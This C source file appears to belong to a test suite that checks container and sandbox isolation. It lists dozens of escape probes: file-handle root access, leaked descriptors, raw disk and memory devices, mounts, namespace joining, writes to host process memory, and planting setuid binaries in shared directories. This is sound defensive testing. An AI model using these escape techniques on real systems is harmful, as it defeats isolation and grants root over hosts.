/* SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Ways out of the root directory and of the namespaces: files, devices, mounts, descriptors, processes of the host.
 */
#include "attacks.h"

#include <linux/keyctl.h>
#include <linux/loop.h>
#include <sys/un.h>
#include <sys/xattr.h>

static long chroot_fchdir(void) { return leave_root() ? -1 : reads(SECRET, SECRET_WORD); }

/* ext4 knows its root by inode 2: a handle needs no path (shocker.c). */
static long open_by_handle(void)
{
    const char *places[] = {"/", "/etc/hosts", "/etc/resolv.conf", "/shared"};
    struct {
        struct file_handle head;
        uint32_t inode, generation;
    } handle = {{.handle_bytes = 8, .handle_type = 1}, 2, 0};
    int number = ENOENT;
    for (size_t at = 0; at < ARRAY(places); at++) {
        int place = open(places[at], O_RDONLY | O_NONBLOCK);
        int root = place < 0 ? -1 : open_by_handle_at(place, &handle.head, O_RDONLY | O_DIRECTORY);
        if (root >= 0 && reads_at(root, SECRET + 1, SECRET_WORD) > 0)
            return 0;
        number = errno;
    }
    return fail(number);
}

/* Whoever started us had directories of the host open, or stood in one. */
static long leaked_descriptor(void)
{
    char path[64];
    for (int file = 3; file < 1024; file++)
        if (reads_at(file, "attack-secret", SECRET_WORD) > 0)
            return 0;
    for (int file = 0; file < 64; file++) {
        snprintf(path, sizeof path, "/proc/1/fd/%d/attack-secret", file);
        if (reads(path, SECRET_WORD) > 0)
            return 0;
    }
    return fail(EBADF);
}

static long leaked_directory(void)
{
    const char *starts[] = {".", "/proc/self/cwd", "/proc/1/cwd", "/proc/self/fd/7", "/proc/self/fd/8", "/proc/self/fd/9"};
    for (size_t at = 0; at < ARRAY(starts); at++)
        if (chdir(starts[at]) == 0 && (reads("../../../../" SECRET, SECRET_WORD) > 0 || reads("attack-secret", SECRET_WORD) > 0))
            return 0;
    return fail(ENOENT);
}

static long leaked_environment(void)
{
    if (getenv("ATTACK_HOST_VARIABLE"))
        return 0;
    return reads("/proc/1/environ", "ATTACK_HOST_VARIABLE=");
}

/* Devices */
static long disk_read(void)
{
    char block[4096];
    int file = device(S_IFBLK, major(disk), minor(disk), O_RDONLY);
    return file < 0 ? -1 : pread(file, block, sizeof block, 0);
}

static long disk_write(void)
{
    char block[512]; /* the boot block, which ext4 does not use; written back as it was */
    int file = device(S_IFBLK, major(disk), minor(disk), O_RDWR);
    if (file < 0 || pread(file, block, sizeof block, 0) != sizeof block)
        return -1;
    return pwrite(file, block, sizeof block, 0);
}

static long disk_mount(void)
{
    int file = device(S_IFBLK, major(disk), minor(disk), O_RDONLY);
    mkdir(MOUNT, 0700);
    close(file);
    if (mount(SCRATCH "/node", MOUNT, "ext4", 0, NULL))
        return -1;
    return reads(MOUNT SECRET, SECRET_WORD);
}

/* The image brought the node along; /attack-disk is the host's disk. */
static long disk_of_the_image(void)
{
    char block[512];
    int file = open("/attack-disk", O_RDONLY);
    return file < 0 ? -1 : pread(file, block, sizeof block, 0);
}

/* Where the disks of other containers are attached. */
static long disk_of_another(void)
{
    uint16_t magic = 0;
    int number = ENODEV;
    for (int at = 0; at < 16; at++) {
        int file = device(S_IFBLK, 7, at, O_RDONLY);
        if (file >= 0 && pread(file, &magic, sizeof magic, 1024 + 0x38) == sizeof magic && magic == 0xEF53)
            return 0;
        number = errno;
    }
    return fail(number);
}

static long devtmpfs(void)
{
    if (mounts("devtmpfs", ""))
        return -1;
    int file = open(MOUNT "/kmsg", O_WRONLY);
    return file;
}

static long memory(void) { return device(S_IFCHR, 1, 1, O_RDONLY); }
static long console(void) { return device(S_IFCHR, 5, 1, O_WRONLY); }

static long kmsg(void)
{
    int file = device(S_IFCHR, 1, 11, O_WRONLY);
    return file < 0 ? -1 : write(file, "attack\n", 7);
}

static long loop_device(void)
{
    int file = device(S_IFCHR, 10, 237, O_RDWR);
    return file < 0 ? -1 : ioctl(file, LOOP_CTL_GET_FREE);
}

/* Mounts */
static long mount_tmpfs(void) { return mounts("tmpfs", ""); }
static long mount_proc(void) { return mounts("proc", ""); }
static long mount_sysfs(void) { return mounts("sysfs", ""); }
static long mount_bind(void) { return mkdir(MOUNT, 0700), mount("/", MOUNT, NULL, MS_BIND | MS_REC, NULL); }
static long unmount(void) { return umount2("/proc", MNT_DETACH); }
static long fsopen_call(void) { return syscall(SYS_fsopen, "tmpfs", 0); }
static long open_tree_call(void) { return syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */); }
static long debugfs(void) { return mounts("debugfs", ""); }
static long tracefs(void) { return mounts("tracefs", ""); }

static long remount(void)
{
    const char *places[] = {"/proc/sys", "/sys", "/sys/fs/cgroup", "/proc", "/"};
    for (size_t at = 0; at < ARRAY(places); at++)
        if (mount(NULL, places[at], NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
            return 0;
    return -1;
}

static long overlay(void)
{
    mkdir(SCRATCH "/upper", 0700);
    mkdir(SCRATCH "/work", 0700);
    return mounts("overlay", "lowerdir=/,upperdir=" SCRATCH "/upper,workdir=" SCRATCH "/work");
}

/* Namespaces: of the host, and new ones that open the kernel's less trodden paths. */
static long join_mounts(void) { return join("mnt"); }
static long join_network(void) { return join("net"); }

static long user_namespace(void) { return leave_root() ? -1 : unshare(CLONE_NEWUSER); }
static long user_namespace_clone3(void) { return leave_root() ? -1 : clone_into(CLONE_NEWUSER); }
static long user_namespace_mount(void)
{
    if (leave_root() || unshare(CLONE_NEWUSER | CLONE_NEWNS))
        return -1;
    return mounts("tmpfs", "");
}
static long mount_namespace(void) { return unshare(CLONE_NEWNS); }

/* Processes of the host: by a /proc in which they are, and by the groups that they are in */
static long signal_host(void)
{
    if (host_proc() && kill(victim, SIGUSR1) == 0)
        return 0;
    leave_root();
    if (mounts("cgroup2", "") && mount("/sys/fs/cgroup", MOUNT, NULL, MS_BIND, NULL))
        return -1;
    return writes(MOUNT "/attack-victims/cgroup.kill", "1");
}

/* What ptrace(2) may, /proc/PID/mem may: the first bytes of its program, written back as they were */
static long memory_of_host(void)
{
    char path[64], bytes[4];
    unsigned long start;
    if (!host_proc())
        return -1;
    snprintf(path, sizeof path, "/proc/%d/maps", victim);
    FILE *maps = fopen(path, "r");
    if (!maps || fscanf(maps, "%lx", &start) != 1)
        return -1;
    snprintf(path, sizeof path, "/proc/%d/mem", victim);
    int file = open(path, O_RDWR);
    if (file < 0 || pread(file, bytes, sizeof bytes, start) != sizeof bytes)
        return -1;
    return pwrite(file, bytes, sizeof bytes, start);
}

static long environment_of_host(void)
{
    char path[64];
    if (!host_proc())
        return -1;
    snprintf(path, sizeof path, "/proc/%d/environ", victim);
    return reads(path, "ATTACK_VICTIM=");
}

static long root_of_host(void)
{
    char path[64];
    if (!host_proc())
        return -1;
    snprintf(path, sizeof path, "/proc/%d/root" SECRET, victim);
    return reads(path, SECRET_WORD);
}

static long connects(const char *path, int abstract)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path + abstract, sizeof address.sun_path - abstract, "%s", path);
    int client = socket(AF_UNIX, SOCK_STREAM, 0);
    socklen_t length = sizeof(sa_family_t) + abstract + strlen(path) + !abstract;
    return connect(client, (struct sockaddr *)&address, length);
}

static long socket_of_host(void) { return leave_root() ? -1 : connects("/run/attack.socket", 0); }
static long abstract_socket_of_host(void)
{
    if (connects("attack", 1) == 0)
        return 0;
    return join("net") ? -1 : connects("attack", 1);
}

/* Keys belong to a user, and root of the host is one. */
static long keyring(void)
{
    char text[64] = "";
    long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", "attack-key", 0);
    if (key < 0 || syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text) < 0)
        return -1;
    return strstr(text, SECRET_WORD) ? 0 : fail(ENOKEY);
}

static long key_list(void) { return reads("/proc/keys", "attack-key"); }

static long root_of_ids(void)
{
    unsigned inside, outside, count;
    FILE *file = fopen("/proc/self/uid_map", "r");
    if (!file || fscanf(file, "%u %u %u", &inside, &outside, &count) != 3)
        return -1;
    return outside == 0 ? 0 : fail(EPERM);
}

/* A directory of the host that is shared: a program there that makes everybody root. */
static long suid_for_host(void)
{
    unlink("/shared/suid");
    int from = open("/attacks", O_RDONLY), to = open("/shared/suid", O_WRONLY | O_CREAT, 0700);
    char block[65536];
    ssize_t length;
    if (from < 0 || to < 0)
        return -1;
    while ((length = read(from, block, sizeof block)) > 0)
        if (write(to, block, length) != length)
            return -1;
    if (fchown(to, 0, 0) || fchmod(to, 04755))
        return -1;
    return root_of_ids(); /* whose it is outside: the test looks at the file too */
}

/* What another user of the container can run to become its root. */
static long executes(const char *path, const char *word)
{
    int status;
    pid_t child = fork();
    if (child == 0) {
        if (setgid(1000) || setuid(1000))
            _exit(errno);
        execl(path, path, word, NULL);
        _exit(errno);
    }
    waitpid(child, &status, 0);
    return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : fail(WEXITSTATUS(status));
}

static long suid_program(void) { return executes("/attacks-suid", "rooted"); }

static long file_capabilities(void)
{
    /* VFS_CAP_REVISION_2 with the effective bit: CAP_SYS_ADMIN permitted */
    const uint32_t capabilities[] = {0x02000001, 1u << 21, 0, 0, 0};
    if (setxattr("/attacks-capable", "security.capability", capabilities, sizeof capabilities, 0))
        return -1;
    chmod(SCRATCH, 0777);
    mkdir(MOUNT, 0777);
    return executes("/attacks-capable", "mounts");
}

const struct attack ESCAPES[] = {
    {"chroot-fchdir", chroot_fchdir},
    {"open-by-handle", open_by_handle},
    {"leaked-descriptor", leaked_descriptor},
    {"leaked-directory", leaked_directory},
    {"leaked-environment", leaked_environment},
    {"disk-read", disk_read},
    {"disk-write", disk_write},
    {"disk-mount", disk_mount},
    {"disk-of-the-image", disk_of_the_image},
    {"disk-of-another", disk_of_another},
    {"devtmpfs", devtmpfs},
    {"device-memory", memory},
    {"device-console", console},
    {"device-kmsg", kmsg},
    {"device-loop", loop_device},
    {"mount-tmpfs", mount_tmpfs},
    {"mount-proc", mount_proc},
    {"mount-sysfs", mount_sysfs},
    {"mount-bind", mount_bind},
    {"mount-overlay", overlay},
    {"mount-debugfs", debugfs},
    {"mount-tracefs", tracefs},
    {"remount", remount},
    {"unmount", unmount},
    {"fsopen", fsopen_call},
    {"open-tree", open_tree_call},
    {"mount-namespace", mount_namespace},
    {"user-namespace", user_namespace},
    {"user-namespace-clone3", user_namespace_clone3},
    {"user-namespace-mount", user_namespace_mount},
    {"setns-mounts", join_mounts},
    {"setns-network", join_network},
    {"signal-host", signal_host},
    {"memory-of-host", memory_of_host},
    {"environment-of-host", environment_of_host},
    {"root-of-host", root_of_host},
    {"socket-of-host", socket_of_host},
    {"abstract-socket-of-host", abstract_socket_of_host},
    {"keyring", keyring},
    {"proc-keys", key_list},
    {"root-of-ids", root_of_ids},
    {"suid-for-host", suid_for_host},
    {"suid-program", suid_program},
    {"file-capabilities", file_capabilities},
    {NULL, NULL},
};
